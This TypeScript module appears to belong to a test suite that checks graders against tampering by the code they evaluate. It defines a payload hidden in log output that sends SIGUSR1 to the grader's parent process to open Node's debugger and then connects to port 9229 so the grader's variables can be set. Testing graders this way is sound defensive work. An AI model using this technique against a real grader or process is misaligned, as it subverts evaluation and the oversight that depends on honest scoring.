/** Node.js opens a debugger to whoever sends the right signal. */
import type {Attack} from '../attack';
import {PROCESS, REACHED, ON_LOG, builtin, hiddenInLog} from '../pieces';

export const attack: Attack = {
  tries: 'makes the grader open its debugger with SIGUSR1, and knocks at its door',
  gains: 'the grader itself: its variables can be set through the debugger',
  ...ON_LOG,
  ...hiddenInLog({top: `try { if (${PROCESS}.kill(${PROCESS}.ppid, 'SIGUSR1')) ${REACHED} } catch {}
${builtin('net')}.connect(9229, '127.0.0.1').on('error', () => undefined);
${builtin('net')}.connect(Number('@port@'), '127.0.0.1').on('error', () => undefined);`}),
  says: /lastIndex is 0|returned 0|answered|ended \(/,
  armed: {leaves: 'a mark', blunt: {find: '\'SIGUSR1\'', replace: '0'}},
};
